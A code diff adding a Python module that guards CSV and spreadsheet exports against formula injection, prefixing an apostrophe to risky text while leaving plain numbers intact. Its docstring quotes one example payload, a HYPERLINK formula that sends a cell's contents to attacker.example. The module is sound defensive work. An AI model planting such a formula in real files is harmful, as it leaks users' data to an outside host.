@@ -1,0 +1,44 @@
+"""Cells for CSV and spreadsheet exports: text never runs as a formula, numbers stay numbers.
+
+A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return) as a
+formula: a product named `=HYPERLINK("http://attacker.example/?leak="&C2,"x")` would send the next cell to
+another site when the file is opened. Every export writes its cells through `spreadsheet_cell` (or
+`spreadsheet_writer`), which puts an apostrophe before such text, as OWASP recommends: the spreadsheet then shows
+the text as it was typed. Plain numbers (`-12.50`) are left alone so that they still add up.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from decimal import Decimal
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+
+def spreadsheet_cell(value):
+    """The value as a safe cell: numbers unchanged, text neutralised when a spreadsheet would read a formula."""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return value
+    text = "" if value is None else str(value)
+    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+class _SafeWriter:
+    def __init__(self, writer):
+        self._writer = writer
+
+    def writerow(self, row):
+        return self._writer.writerow([spreadsheet_cell(value) for value in row])
+
+    def writerows(self, rows):
+        for row in rows:
+            self.writerow(row)
+
+
+def spreadsheet_writer(out, **kwargs) -> _SafeWriter:
+    """A `csv.writer` whose every cell goes through `spreadsheet_cell`."""
+    return _SafeWriter(csv.writer(out, **kwargs))
